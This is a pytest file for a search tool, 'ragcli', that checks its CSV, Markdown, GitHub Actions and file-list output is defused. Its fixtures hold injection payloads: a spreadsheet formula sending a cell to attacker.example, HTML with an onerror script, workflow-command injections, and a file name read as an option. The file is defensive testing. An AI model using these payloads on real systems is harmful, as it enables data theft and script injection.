"""What ragcli prints is safe where it lands (issue 33): a spreadsheet, rendered Markdown, a GitHub Actions log,
a command line. Each destination is checked the way it reads the output: csv.reader for the spreadsheet,
the Markdown text for tags, stdout and stderr read apart (as the runner reads them) for a GitHub Actions log,
``xargs`` for the command line.
"""

from __future__ import annotations

import csv
import io
import re
import subprocess
from pathlib import Path

import pytest
from support.cli import clean_env, cli, cli_args
from support.corpus import write_markdown, write_user

TENANT = "outco"
FORMULA_TITLE = '=HYPERLINK("http://attacker.example/?q="&A1,"Open invoice")'
HOSTILE_HTML = (
    '<img src=x onerror="alert(1)"> <details open><summary>walrus</summary>hidden</details> '
    "<a href='http://attacker.example'>walrus login</a>"
)
HOSTILE_BODY = (
    "@SUM(1+1) walrus ledger figures.\n\n" + HOSTILE_HTML + "\n\n"
    "::add-mask::walrus-secret\n::error file=app.py::walrus failure injected\n\n"
    "A legacy command in a line: ##[error]walrus legacy injected\n"
)


@pytest.fixture(scope="module")
def indexed(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path, Path]:
    tmp = tmp_path_factory.mktemp("output")
    folder = tmp / "docs"
    write_markdown(folder / "ledger.md", {"id": "ledger", "title": FORMULA_TITLE}, "## -2+3 totals\n\n" + HOSTILE_BODY)
    write_markdown(folder / "--version.md", {"id": "dash"}, "The walrus dash file.\n")
    write_markdown(folder / "my walrus notes.md", {"id": "spaced"}, "Walrus notes with spaces in the name.\n")
    # A Markdown page's HTML is read as its text; a plain text file's passages hold it as written.
    (folder / "narwhal.txt").write_text("Narwhal tusks: " + HOSTILE_HTML.replace("walrus", "narwhal") + "\n")
    # A page that writes a tag as text, with character references: a person reads "<img ...>", never an element.
    write_markdown(
        folder / "dugong.md", {"id": "dugong"}, "Dugong pages write &lt;img src=x onerror=alert(1)&gt; as text.\n"
    )
    index = tmp / "index"
    proc = cli("ingest", folder, "--tenant", TENANT, "--index", index, "--acl", "everyone")
    assert proc.returncode == 0, proc.stderr
    return folder, index, write_user(tmp / "reader.json", "reader", TENANT, ["everyone"])


def _search(indexed: tuple[Path, Path, Path], *args: object, env: dict[str, str] | None = None, query: str = "walrus"):  # type: ignore[no-untyped-def]
    _, index, user = indexed
    proc = cli("search", query, "--as", user, "--index", index, *args, env=env)
    assert proc.returncode == 0 and "Traceback" not in proc.stderr, proc.stderr[-2000:]
    return proc


@pytest.mark.slow
def test_csv_cells_that_a_spreadsheet_would_run_begin_with_a_quote(indexed) -> None:  # type: ignore[no-untyped-def]
    rows = list(csv.reader(io.StringIO(_search(indexed, "--format", "csv").stdout)))
    header, body = rows[0], rows[1:]
    assert body
    for row in body:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (header, row)
    ledger = next(dict(zip(header, row, strict=True)) for row in body if row[header.index("doc_id")] == "ledger")
    assert ledger["title"] == "'" + FORMULA_TITLE  # the text itself is kept, only defused
    assert ledger["section"].startswith("'-2+3")
    assert any(row[header.index("source")] == "'--version.md" for row in body)


@pytest.mark.slow
def test_markdown_results_show_html_as_text(indexed) -> None:  # type: ignore[no-untyped-def]
    out = _search(indexed, "--format", "md", query="narwhal").stdout
    assert not re.search(r"<\s*(img|details|a|summary)\b", out, re.IGNORECASE), out
    assert "&lt;img src=x" in out or "&lt;details" in out or "&lt;a href" in out, out
    # In a Markdown page the tags are markup: the passage holds what the page shows.
    out = _search(indexed, "--format", "md").stdout
    assert not re.search(r"<\s*(img|details|a|summary)\b|&lt;", out, re.IGNORECASE), out
    assert "**walrus** login" in out, out


@pytest.mark.slow
def test_character_references_read_as_text_are_escaped_again_in_markdown(indexed) -> None:  # type: ignore[no-untyped-def]
    out = _search(indexed, "--format", "md", query="dugong").stdout
    assert "&lt;img src=x onerror=alert(1)&gt;" in out and "<img" not in out, out
    terminal = _search(indexed, query="dugong").stdout
    assert "<img src=x onerror=alert(1)>" in terminal, terminal  # what the page shows, as text


def test_eval_summary_escapes_html_and_cuts_before_escaping() -> None:
    from ragcli.eval.summary import SHOWN_CHARS, markdown_summary
    from ragcli.eval.wire import EvalJson

    question = "x" * (SHOWN_CHARS - 10) + "<a href='http://attacker.example'>click</a>"  # the cut falls in the tag
    data = EvalJson.model_validate(
        {
            "case_count": 1,
            "cases": [],
            "k": 5,
            "retrieval": {},
            "retrieval_cases": 1,
            "permission_violations": 0,
            "disposition_accuracy": None,
            "reason_accuracy": None,
            "latency_ms": {},
            "failures": [
                {
                    "id": "c1",
                    "line": 1,
                    "question": question,
                    "kind": "missed_relevant",
                    "expected": "<img src=x>",
                    "got": "&",
                }
            ],
            "gates": {},
        }
    )
    text = markdown_summary(data, name="<details>q.jsonl")
    assert "<a" not in text and "<img" not in text and "<details" not in text, text
    assert "&lt;img src=x&gt;" in text
    row = next(line for line in text.splitlines() if line.startswith("| `c1`"))
    assert "xxxx&lt;a href..." in row  # cut in the raw text, then escaped: no half entity, no open tag
    assert re.search(r"&(?!(lt|gt|amp);)", row) is None, row  # every & begins a whole entity


def _runner_run(*args: object) -> subprocess.CompletedProcess[str]:
    """A CLI run under GITHUB_ACTIONS=true with stdout and stderr on two pipes, as the runner reads them (apart,
    so only the order within one stream is kept in its log)."""
    return subprocess.run(
        cli_args(*args), capture_output=True, text=True, env=clean_env({"GITHUB_ACTIONS": "true"}), timeout=300
    )


def _bracketed(stream: str, *needles: str) -> str:
    """The token of the one ``::stop-commands::`` block of ``stream``; every line holding a needle is inside it."""
    lines = stream.splitlines()
    starts = [i for i, line in enumerate(lines) if line.startswith("::stop-commands::")]
    assert len(starts) == 1, lines
    token = lines[starts[0]].removeprefix("::stop-commands::")
    assert re.fullmatch(r"[0-9a-f]{32}", token), token  # random: a document cannot close the block itself
    end = lines.index(f"::{token}::")
    inside = [i for i, line in enumerate(lines) if any(n in line for n in needles)]
    assert inside and all(starts[0] < i < end for i in inside), lines
    return token


@pytest.mark.slow
def test_github_actions_workflow_commands_in_documents_are_not_run(indexed) -> None:  # type: ignore[no-untyped-def]
    """The markers are on stdout, around the document text: the stream the runner reads that text from."""
    _, index, user = indexed
    tokens = []
    for _ in range(2):
        proc = _runner_run("search", "walrus", "--as", user, "--index", index, "--format", "table")
        assert proc.returncode == 0, proc.stderr[-2000:]
        tokens.append(_bracketed(proc.stdout, "::add-mask::", "::error", "##["))
        assert "::stop-commands::" not in proc.stderr and tokens[-1] not in proc.stderr
    assert tokens[0] != tokens[1]
    plain = _search(indexed, "--format", "table")
    assert "::stop-commands::" not in plain.stdout + plain.stderr  # only on a runner


@pytest.mark.slow
def test_ask_under_github_actions_stops_workflow_commands(indexed) -> None:  # type: ignore[no-untyped-def]
    _, index, user = indexed
    proc = _runner_run("ask", "walrus failure injected", "--as", user, "--index", index, "--model", "local")
    assert proc.returncode in (0, 1) and "Traceback" not in proc.stderr, proc.stderr[-2000:]
    lines = proc.stdout.splitlines()
    assert lines[0].startswith("::stop-commands::") and lines[-1] == f"::{lines[0].removeprefix('::stop-commands::')}::"
    _bracketed(proc.stdout, "walrus")
    assert "::stop-commands::" not in proc.stderr


@pytest.mark.slow
@pytest.mark.parametrize("fmt", ["json", "jsonl"])
def test_json_under_github_actions_holds_no_workflow_command_and_stays_json(indexed, fmt) -> None:  # type: ignore[no-untyped-def]
    """No markers around JSON (they would break ``jq``): a ``::`` command cannot start a JSON line, and the legacy
    ``##[`` prefix, read anywhere in a line, is written as an escape the JSON reader turns back into ``#``."""
    import json

    _, index, user = indexed
    proc = _runner_run("search", "walrus", "--as", user, "--index", index, "--format", fmt)
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert "##[" not in proc.stdout and "::stop-commands::" not in proc.stdout + proc.stderr
    assert not [line for line in proc.stdout.splitlines() if line.lstrip().startswith("::")]
    docs = [json.loads(proc.stdout)] if fmt == "json" else [json.loads(line) for line in proc.stdout.splitlines()]
    snippets = " ".join(r["text"] for d in docs for r in (d["results"] if fmt == "json" else [d]))
    assert "##[error]walrus legacy injected" in snippets, snippets


@pytest.mark.slow
def test_files_output_cannot_be_read_as_options_and_print0_keeps_names_whole(indexed) -> None:  # type: ignore[no-untyped-def]
    folder, index, user = indexed
    lines = _search(indexed, "--format", "files").stdout.splitlines()
    assert "./--version.md" in lines and "--version.md" not in lines
    nul = _search(indexed, "--format", "files", "-0").stdout
    assert nul.endswith("\0") and "\n" not in nul
    assert set(nul.rstrip("\0").split("\0")) >= {"./--version.md", "my walrus notes.md", "ledger.md"}
    # The documented pipeline, run as documented: every file found, none read as an option.
    search = subprocess.list2cmdline([str(a) for a in cli_args("search", "walrus", "--as", user, "--index", index)])
    pipeline = f"{search} --format files -0 | xargs -0 grep -l -i walrus"
    proc = subprocess.run(
        pipeline, shell=True, cwd=folder, capture_output=True, text=True, env=clean_env(), timeout=300
    )
    assert proc.returncode == 0, proc.stderr
    assert set(proc.stdout.split("\n")) - {""} == {"./--version.md", "my walrus notes.md", "ledger.md"}


@pytest.mark.slow
def test_print0_without_files_format_is_one_error_line(indexed) -> None:  # type: ignore[no-untyped-def]
    from support.cli import assert_one_error_line

    _, index, user = indexed
    assert_one_error_line(cli("search", "walrus", "--as", user, "--index", index, "-0"), "--print0", "files")
